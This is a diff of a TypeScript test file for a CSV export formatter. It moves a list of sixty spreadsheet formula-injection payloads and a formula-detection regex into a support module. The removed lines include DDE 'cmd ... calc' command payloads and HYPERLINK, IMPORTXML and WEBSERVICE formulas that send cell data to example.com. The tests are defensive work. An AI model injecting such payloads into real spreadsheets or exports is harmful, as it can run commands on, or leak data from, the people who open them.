@@ -2,96 +2,31 @@ import { formatCsvCell, formatCsvLine } from '@server/features/audit/csv';
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { beginsFormula, hostileCells } from '../../support/audit/hostile-cells';
 import { verifies } from '../../support/service/verifies';
-
-/** Characters that begin a formula in a spreadsheet, or that it drops before one. */
-const DANGEROUS = /^[=+\-@\t\r\n\0\uFE62\uFE63\uFE66\uFE6B\uFF0B\uFF0D\uFF1D\uFF20]/u;
-
-const hostile = [
-  '=1+1',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://example.com?x="&A1,"click")',
-  '=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
-  '=WEBSERVICE("http://example.com/")',
-  '=DDE("cmd";"/C calc";"!A0")',
-  "=@SUM(1+1)*cmd|' /C calc'!A0",
-  '==1',
-  '=',
-  '+1+1',
-  "+1+cmd|' /C calc'!A0",
-  '+351 912 345 678',
-  '++',
-  '-1+1',
-  "-2+3+cmd|' /C calc'!A0",
-  '-',
-  '--',
-  '@SUM(1+1)',
-  '@cmd',
-  '@',
-  '\t=1+1',
-  '\t',
-  '\t\t-1',
-  '\r=1+1',
-  '\r',
-  '\n=1+1',
-  '\n',
-  '\r\n=1+1',
-  '\0=1+1',
-  '\0',
-  '\uFF1D1+1',
-  '\uFF0B1',
-  '\uFF0D1',
-  '\uFF20SUM(1)',
-  '\uFE66' + '1+1',
-  '\uFE62' + '1',
-  '\uFE63' + '1',
-  '\uFE6B' + 'x',
-  ' =1+1',
-  '   +1',
-  '\u00A0=1',
-  '\u3000=1',
-  '"=1+1"',
-  "'=1+1",
-  '"',
-  '""',
-  '"""=1',
-  'a"b',
-  'a,=1+1',
-  'a;=1+1',
-  'a\t=1+1',
-  'a\n=1+1',
-  'a\r\n-1',
-  'a;"=1+1"',
-  'a; =1+1',
-  ";=cmd|' /C calc'!A0;",
-  ',@x',
-  'a,b\r\nc,d',
-  ';',
-  'x;\uFF1D1',
-] as const;
 
 const getRows = (text: string, delimiter = ','): string[][] =>
   parse(text, { delimiter, relax_quotes: true, relax_column_count: true });
 
 describe('a cell', () => {
   it('sixty hostile ones are known', () => {
-    expect(new Set(hostile).size).toBe(60);
+    expect(new Set(hostileCells).size).toBe(60);
   });
 
-  it.each(hostile)('%j begins no formula, and its text is still there', (text) => {
+  it.each(hostileCells)('%j begins no formula, and its text is still there', (text) => {
     const [row] = getRows(formatCsvLine(['1', text, 'end']));
     expect(row).toHaveLength(3);
     const [, cell = ''] = row ?? [];
-    expect(cell).not.toMatch(DANGEROUS);
-    expect(cell.trimStart()).not.toMatch(DANGEROUS);
+    expect(cell).not.toMatch(beginsFormula);
+    expect(cell.trimStart()).not.toMatch(beginsFormula);
     expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
   });
 
-  it.each(hostile)('%j begins none for a program that splits at semicolons or tabs either', (text) => {
+  it.each(hostileCells)('%j begins none for a program that splits at semicolons or tabs either', (text) => {
     const line = formatCsvLine(['1', text, 'end']);
     for (const delimiter of [';', '\t'])
       for (const cell of line.slice(0, -2).split(delimiter).slice(1))
-        expect(cell.replace(/^[ "\u00A0\u3000]+/u, '')).not.toMatch(DANGEROUS);
+        expect(cell.replace(/^[ "\u00A0\u3000]+/u, '')).not.toMatch(beginsFormula);
   });
 
   it.each([
@@ -124,7 +59,7 @@ describe('a cell', () => {
         expect(rows[0]?.slice(1).map((cell) => cell.replaceAll("'", ''))).toEqual(
           cells.map((cell) => cell.replaceAll("'", '')),
         );
-        for (const cell of rows[0] ?? []) expect(cell).not.toMatch(DANGEROUS);
+        for (const cell of rows[0] ?? []) expect(cell).not.toMatch(beginsFormula);
       }),
     );
   });
